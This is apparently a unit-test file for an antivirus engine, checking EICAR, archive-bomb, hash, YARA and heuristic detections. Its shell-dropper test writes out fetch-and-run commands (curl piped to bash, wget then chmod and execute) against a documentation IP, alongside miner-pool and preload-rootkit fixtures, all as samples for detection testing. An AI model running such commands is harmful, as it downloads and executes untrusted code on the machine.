"""The engine on files the tests make: EICAR (plain, zipped, tar.gz), a YARA match, a known hash, each heuristic."""

from __future__ import annotations

import bz2
import hashlib
import lzma
import os
import random
from pathlib import Path

import pytest

from tests.unit.av.av_support import eicar, elf, shared_object, tar_gz_of, zip_of
from vigil.av import yara
from vigil.av.archives import Limits
from vigil.av.definitions import Definitions, builtin
from vigil.av.engine import Engine, EngineOptions
from vigil.av.hashes import HashListError, HashStore, parse_hash_list
from vigil.av.model import Source, ThreatType


def _engine(tmp_path: Path, definitions: Definitions | None = None, **options: object) -> Engine:
    return Engine(definitions or builtin(), EngineOptions(temp_dirs=(str(tmp_path) + "/",), **options))  # type: ignore[arg-type]


def _names(engine: Engine, path: Path) -> list[str]:
    verdict, _ = engine.scan_file(str(path))
    return [d.threat.name for d in verdict.detections]


def test_eicar_is_found_with_trailing_white_space_and_only_then(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    (tmp_path / "eicar.com").write_bytes(eicar() + b"\r\n")
    (tmp_path / "longer").write_bytes(eicar() + b"x")
    (tmp_path / "prefixed").write_bytes(b" " + eicar())
    verdict, size = engine.scan_file(str(tmp_path / "eicar.com"))
    assert [d.threat.name for d in verdict.detections] == ["Virus:DOS/EICAR_Test_File"]
    assert verdict.detections[0].threat.type is ThreatType.TEST and size == 70
    assert _names(engine, tmp_path / "longer") == [] and _names(engine, tmp_path / "prefixed") == []


def test_eicar_in_zip_and_tar_gz_names_the_member(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    (tmp_path / "a.zip").write_bytes(zip_of({"docs/readme.txt": b"hello", "bin/eicar.com": eicar()}))
    (tmp_path / "b.tar.gz").write_bytes(tar_gz_of({"x/clean": b"clean", "x/test.com": eicar()}))
    (tmp_path / "nested.zip").write_bytes(zip_of({"inner.tar.gz": tar_gz_of({"deep/e.com": eicar()})}))
    found = {p: engine.scan_file(str(tmp_path / p))[0].detections for p in ("a.zip", "b.tar.gz", "nested.zip")}
    assert [d.location for d in found["a.zip"]] == [f"{tmp_path}/a.zip->bin/eicar.com"]
    assert [d.member for d in found["b.tar.gz"]] == ["x/test.com"]
    assert [d.member for d in found["nested.zip"]] == ["inner.tar.gz->deep/e.com"]


def test_bz2_and_xz_are_unpacked(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    (tmp_path / "e.bz2").write_bytes(bz2.compress(eicar()))
    (tmp_path / "e.xz").write_bytes(lzma.compress(eicar()))
    assert _names(engine, tmp_path / "e.bz2") == ["Virus:DOS/EICAR_Test_File"]
    assert _names(engine, tmp_path / "e.xz") == ["Virus:DOS/EICAR_Test_File"]


def test_bomb_limits_stop_unpacking_and_say_why(tmp_path: Path) -> None:
    engine = _engine(tmp_path, limits=Limits(max_depth=2, max_ratio=100, max_member_size=1 << 20))
    (tmp_path / "ratio.zip").write_bytes(zip_of({"zeros": bytes(8 << 20)}))
    deep = eicar()
    for i in range(4):
        deep = zip_of({f"level{i}.zip" if i else "e.com": deep})
    (tmp_path / "deep.zip").write_bytes(deep)
    big = random.Random(1).randbytes(2 << 20)
    (tmp_path / "big.tar.gz").write_bytes(tar_gz_of({"big": big}))
    ratio, _ = engine.scan_file(str(tmp_path / "ratio.zip"))
    assert ratio.clean and "compression ratio above 100:1" in ratio.incomplete[0]
    depth, _ = engine.scan_file(str(tmp_path / "deep.zip"))
    assert depth.clean and "nested deeper than 2" in depth.incomplete[0]
    size, _ = engine.scan_file(str(tmp_path / "big.tar.gz"))
    assert size.clean and "larger than 1048576 bytes" in size.incomplete[0]


def test_a_known_hash_is_found_by_sha256_sha1_and_md5(tmp_path: Path) -> None:
    samples = {a: os.urandom(300) for a in ("sha256", "sha1", "md5")}
    text = "\n".join([f"{hashlib.sha256(samples['sha256']).hexdigest()} Backdoor:Linux/Sample.A  # comment",
                      f"{hashlib.sha1(samples['sha1'], usedforsecurity=False).hexdigest()}",
                      f"{hashlib.md5(samples['md5'], usedforsecurity=False).hexdigest()}:300:Sample.B", ""])
    store = HashStore()
    assert parse_hash_list(text, "list.txt", store) == 3
    engine = _engine(tmp_path, Definitions(version=7, hashes=store))
    for a, data in samples.items():
        (tmp_path / a).write_bytes(data)
    assert _names(engine, tmp_path / "sha256") == ["Backdoor:Linux/Sample.A"]
    assert _names(engine, tmp_path / "sha1") == ["Trojan:Linux/KnownHash"]
    assert _names(engine, tmp_path / "md5") == ["Trojan:Linux/Sample.B"]
    (tmp_path / "other").write_bytes(os.urandom(300))
    assert _names(engine, tmp_path / "other") == []


def test_a_bad_hash_list_line_is_named() -> None:
    with pytest.raises(HashListError, match=r"list.txt:2: 'nothex' is not"):
        parse_hash_list("# header\nnothex name\n", "list.txt", HashStore())


def test_a_yara_rule_matches_and_is_named_like_defender(tmp_path: Path) -> None:
    rules_dir = tmp_path / "rules"
    rules_dir.mkdir()
    (rules_dir / "good.yar").write_text('rule Linux_Backdoor_Tiny { meta: tc_detection_type = "Backdoor" '
                                        'tc_detection_name = "Tiny" strings: $a = "tiny-backdoor-marker-42" '
                                        'condition: $a }')
    (rules_dir / "broken.yara").write_text("rule broken { condition: nope( }")
    rules, report = yara.compile_folders([rules_dir])
    assert (report.files, report.rules, report.refused) == (2, 1, 1)
    engine = _engine(tmp_path, Definitions(version=3, rules=yara.deserialize(yara.serialize(rules))))
    (tmp_path / "sample").write_bytes(b"prefix tiny-backdoor-marker-42 suffix")
    (tmp_path / "clean").write_bytes(b"prefix tiny-backdoor-marker-41 suffix")
    verdict, _ = engine.scan_file(str(tmp_path / "sample"))
    assert [(d.threat.name, d.threat.source) for d in verdict.detections] == [("Backdoor:Linux/Tiny", Source.YARA)]
    assert _names(engine, tmp_path / "clean") == []


def test_heuristic_packed_elf_in_temp(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    packed = elf(os.urandom(64 << 10))
    upx = elf(b"\x00" * 1000 + b"UPX!" + b"\x00" * 1000)
    plain = elf(bytes(random.Random(2).choices(range(40), k=64 << 10)))  # about 5.3 bits/byte, like code
    (tmp_path / "packed").write_bytes(packed)
    (tmp_path / "upx").write_bytes(upx)
    (tmp_path / "plain").write_bytes(plain)
    assert _names(engine, tmp_path / "packed") == ["Trojan:Linux/PackedTempElf.H"]
    assert _names(engine, tmp_path / "upx") == ["Trojan:Linux/PackedTempElf.H"]
    assert _names(engine, tmp_path / "plain") == []
    elsewhere = Engine(builtin(), EngineOptions(temp_dirs=("/nowhere/",)))
    assert elsewhere.scan_file(str(tmp_path / "packed"))[0].clean


def test_heuristic_shell_dropper(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    samples = {
        "pipe.sh": b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | bash\n",
        "chmod": b"#!/bin/bash\ncd /tmp; wget http://203.0.113.9/bot -O .b; chmod +x .b; ./.b &\n",
    }
    benign = {
        "install.sh": b"#!/bin/sh\n# downloads the release\ncurl -fsSLO https://example.org/tool.tar.gz\n"
                      b"tar xzf tool.tar.gz\n",
        "notes.txt": b"curl http://x | sh is what droppers do\n",  # not a script
    }
    for name, data in {**samples, **benign}.items():
        (tmp_path / name).write_bytes(data)
    for name in samples:
        assert _names(engine, tmp_path / name) == ["TrojanDownloader:Linux/ShellDropper.H"], name
    for name in benign:
        assert _names(engine, tmp_path / name) == [], name


def test_heuristic_miner_pool(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    (tmp_path / "config.json").write_bytes(b'{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.example:3333"}]}')
    (tmp_path / "doc.txt").write_bytes(b"stratum+tcp://pool.example:3333 is a pool address")
    assert _names(engine, tmp_path / "config.json") == ["PUA:Linux/CoinMiner.H"]
    assert _names(engine, tmp_path / "doc.txt") == []


def test_heuristic_preload_rootkit(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    (tmp_path / "libhide.so").write_bytes(shared_object(["readdir", "readdir64", "fopen"], ["dlsym", "strstr"]))
    (tmp_path / "libplain.so").write_bytes(shared_object(["my_function"], ["dlsym", "readdir"]))
    etc = tmp_path / "etc"
    etc.mkdir()
    (etc / "ld.so.preload").write_text(f"{tmp_path}/.hidden/libx.so\n")
    assert _names(engine, tmp_path / "libhide.so") == ["Rootkit:Linux/PreloadHook.H"]
    assert _names(engine, tmp_path / "libplain.so") == []
    assert _names(engine, etc / "ld.so.preload") == ["Rootkit:Linux/PreloadHook.H"]
    (etc / "ld.so.preload").write_text("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
    assert _names(engine, etc / "ld.so.preload") == []


def test_unchanged_files_come_from_the_cache_and_a_change_is_seen(tmp_path: Path) -> None:
    engine = _engine(tmp_path)
    f = tmp_path / "f"
    f.write_bytes(b"clean at first")
    first, n = engine.scan_file(str(f))
    again, m = engine.scan_file(str(f))
    assert not first.cached and again.cached and (n, m) == (14, 0)
    f.write_bytes(eicar())
    changed, _ = engine.scan_file(str(f))
    assert not changed.cached and [d.threat.signature for d in changed.detections] == ["eicar"]
    other = Engine(Definitions(version=2), cache=engine.cache)  # new definitions: the old verdict does not hold
    assert not other.scan_file(str(f))[0].cached
